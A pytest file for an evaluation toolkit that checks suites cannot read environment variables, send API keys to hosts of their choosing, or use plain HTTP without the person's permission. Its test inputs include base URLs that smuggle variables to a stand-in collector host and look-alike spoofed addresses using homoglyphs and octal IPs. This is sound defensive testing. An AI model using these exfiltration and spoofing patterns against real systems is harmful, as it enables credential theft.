"""What a suite may not do without the person's word: read variables, choose keys, speak without encryption."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from evalkit.testing.fake_provider import Behaviour, FakeProvider
from tests.world import Ran, evalkit

CANARY = "ghp_CANARY0123456789abcdef"
Capture = pytest.CaptureFixture[str]
VARIABLES = (
    *("DB_USER", "DATABASE_URL", "SLACK_WEBHOOK_URL", "HOME", "PATH", "CI_COMMIT_MESSAGE"),
    *("AWS_PROFILE", "KUBECONFIG", "MODEL_SERVER", "X"),
)


@pytest.fixture
def server() -> Iterator[FakeProvider]:
    with FakeProvider.in_thread(Behaviour(reply="B")) as provider:
        yield provider


def write(folder: Path, model: str, *, sensitivity: str = "public", task: str = "") -> Path:
    (folder / "items.jsonl").write_text('{"id": "1", "q": "x"}\n')
    task = task or "{name: t, data: items.jsonl, prompt: '{{ q }}', target: B, score: contains}"
    path = folder / "suite.yaml"
    path.write_text(f"name: s\nsensitivity: {sensitivity}\nmodels:\n  m: {model}\ntasks:\n  - {task}\n", "utf-8")
    return path


def check(capsys: Capture, *args: object) -> Ran:
    ran = evalkit(capsys, "check", *args)
    assert CANARY not in ran.out + ran.err
    assert "Traceback" not in ran.err
    return ran


@pytest.mark.parametrize("name", VARIABLES)
@pytest.mark.parametrize("place", ["base_url", "model", "judge", "data"])
def test_a_suite_reads_no_variable_that_the_person_did_not_allow(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, name: str, place: str
) -> None:
    monkeypatch.setenv(name, CANARY)
    written = "${" + name + "}"
    models = {
        "base_url": f"{{adapter: openai-chat, model: x, base_url: 'https://collect.example/{written}'}}",
        "model": f"{{adapter: openai-chat, model: '{written}', base_url: 'https://collect.example/v1'}}",
    }
    suite = write(tmp_path, models.get(place, "{adapter: scripted, replies: {'*': B}}"))
    if place == "judge":
        with suite.open("a") as file:
            file.write(f"judges:\n  j: {models['base_url']}\n")
    if place == "data":
        suite.write_text(suite.read_text().replace("items.jsonl", f"'{written}/items.jsonl'"))
    ran = check(capsys, suite)
    assert ran.code == 2
    assert f"may not read the environment variable {name}" in ran.err


def test_the_person_allows_variables_by_name_and_never_credentials(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("MODEL_SERVER", "EVALKIT_SERVER", "MY_SERVER_TOKEN"):
        monkeypatch.setenv(name, "v1")

    def suite(name: str) -> Path:
        return write(tmp_path, f"{{adapter: openai-chat, model: x, base_url: 'http://127.0.0.1:9/${{{name}}}'}}")

    assert check(capsys, suite("MODEL_SERVER")).code == 2
    assert check(capsys, suite("MODEL_SERVER"), "--allow-env", "MODEL_SERVER").code == 0
    assert check(capsys, suite("MODEL_SERVER")).code == 2, "the word holds for one command"
    assert check(capsys, suite("MODEL_SERVER"), "--allow-env", "MODEL").code == 2, "a name is whole"
    assert check(capsys, suite("EVALKIT_SERVER")).code == 0
    monkeypatch.setenv("EVALKIT_ALLOWED_ENV", "OTHER,MODEL_SERVER,MY_SERVER_TOKEN")
    assert check(capsys, suite("MODEL_SERVER")).code == 0
    ran = check(capsys, suite("MY_SERVER_TOKEN"))
    assert ran.code == 2 and "looks like a credential" in ran.err


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "DB_PASS", "HOME"])
def test_a_key_of_the_suites_choice_needs_the_variable_and_the_host(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, CANARY)
    suite = write(tmp_path, f"{{adapter: openai-chat, model: x, base_url: 'https://gw.example/v1', key_env: {name}}}")
    refused = [
        (),
        ("--allow-key-host", "gw.example"),
        ("--allow-env", name),
        ("--allow-key-host", "OTHER_KEY@gw.example"),
        ("--allow-key-host", f"{name}@other.example"),
        ("--allow-http-host", "gw.example", "--allow-env", "OTHER"),
    ]
    for words in refused[:-1]:
        ran = check(capsys, suite, *words)
        assert ran.code == 2, words
        assert f"{name} is not sent there" in ran.err
    for words in (("--allow-key-host", f"{name}@gw.example"), ("--allow-key-host", "gw.example", "--allow-env", name)):
        assert check(capsys, suite, *words).code == 0, words


def test_a_key_bound_to_a_host_is_no_word_for_another_key(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-1")
    monkeypatch.setenv("ANTHROPIC_API_KEY", CANARY)
    monkeypatch.setenv("EVALKIT_KEY_HOSTS", "OPENAI_API_KEY@gw.example")
    assert check(capsys, write(tmp_path, "{adapter: openai, model: x, base_url: 'https://gw.example/v1'}")).code == 0
    ran = check(capsys, write(tmp_path, "{adapter: anthropic, model: x, base_url: 'https://gw.example'}"))
    assert ran.code == 2 and "ANTHROPIC_API_KEY is not sent there" in ran.err


def test_an_azure_resource_is_an_address_of_the_suite(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Anybody can have a resource: a suite that names one says where key and prompts go."""
    monkeypatch.setenv("AZURE_OPENAI_API_KEY", CANARY)
    suite = write(tmp_path, "{adapter: azure, model: x, resource: collector}", sensitivity="internal")
    ran = check(capsys, suite)
    assert ran.code == 2 and "AZURE_OPENAI_API_KEY is not sent there" in ran.err
    assert check(capsys, suite, "--allow-key-host", "collector.openai.azure.com").code == 0


@pytest.mark.parametrize("host", ["ollama", "host.docker.internal", "10.0.0.5", "192.168.1.20", "gpu-1.lan", "fd00::5"])
def test_plain_http_to_a_named_host_is_the_persons_word(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, host: str
) -> None:
    monkeypatch.setenv("OLLAMA_API_KEY", CANARY)
    named = f"[{host}]" if ":" in host else host
    model = f"{{adapter: ollama, model: x, base_url: 'http://{named}:11434/v1'}}"
    for sensitivity in ("internal", "restricted"):
        suite = write(tmp_path, model, sensitivity=sensitivity)
        ran = check(capsys, suite)
        assert ran.code == 2 and f"--allow-http-host {host}" in ran.err
        assert check(capsys, suite, "--allow-http-host", host).code == 0
        assert check(capsys, suite, "--allow-http-host", "other").code == 2
        assert check(capsys, suite, "--allow-key-host", host).code == 2, "a key's host is not one without encryption"
        with monkeypatch.context() as own:
            own.setenv("EVALKIT_HTTP_HOSTS", f"other, {host.upper()}")
            ran = check(capsys, suite)
            assert ran.code == 0 and f"prompts go to {host}" in ran.out


def test_a_host_without_encryption_gets_a_key_only_by_its_own_word(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, server: FakeProvider
) -> None:
    """Read from what an adapter would send: no request leaves this test but to loopback."""
    from evalkit.adapters.base import ModelSpec
    from evalkit.adapters.keys import api_key

    monkeypatch.setenv("OPENAI_API_KEY", CANARY)
    monkeypatch.setenv("EVALKIT_HTTP_HOSTS", "gpu.lan,api.openai.com")
    spec = ModelSpec(name="m", adapter="openai", model="x")
    home = ("api.openai.com",)
    assert api_key(("OPENAI_API_KEY",), "http://gpu.lan/v1", home, spec) is None
    assert api_key(("OPENAI_API_KEY",), "http://api.openai.com/v1", home, spec) is None, "its own host, in the clear"
    assert api_key(("OPENAI_API_KEY",), "https://api.openai.com/v1", home, spec) == CANARY
    monkeypatch.setenv("EVALKIT_KEY_HOSTS", "OPENAI_API_KEY@gpu.lan")
    assert api_key(("OPENAI_API_KEY",), "http://gpu.lan/v1", home, spec) == CANARY


@pytest.mark.parametrize("adapter", ["openai", "anthropic", "gemini", "openai-chat", "together", "ollama"])
@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example\u2044@api.openai.com/v1",
        "https://api.openai.com\u2044.evil.example/v1",
        "https://\u0430pi.openai.com/v1",
        "https://api.openai.com@evil.example/v1",
        "http://2130706433/v1",
        "http://0177.0.0.1/v1",
        "http://[fe80::1%25eth0]/v1",
        "https://evil.example\\@api.openai.com",
    ],
)
def test_a_look_alike_address_is_a_sentence_for_every_adapter(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, adapter: str, url: str
) -> None:
    for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "TOGETHER_API_KEY"):
        monkeypatch.setenv(name, CANARY)
    ran = check(capsys, write(tmp_path, f"{{adapter: {adapter}, model: x, base_url: {json.dumps(url)}}}"))
    assert ran.code == 2
    assert "models.m.base_url" in ran.err
    monkeypatch.setenv("EVALKIT_PART", url)
    ran = check(capsys, write(tmp_path, f"{{adapter: {adapter}, model: x, base_url: '${{EVALKIT_PART}}'}}"))
    assert ran.code == 2, "also where a variable brings it"
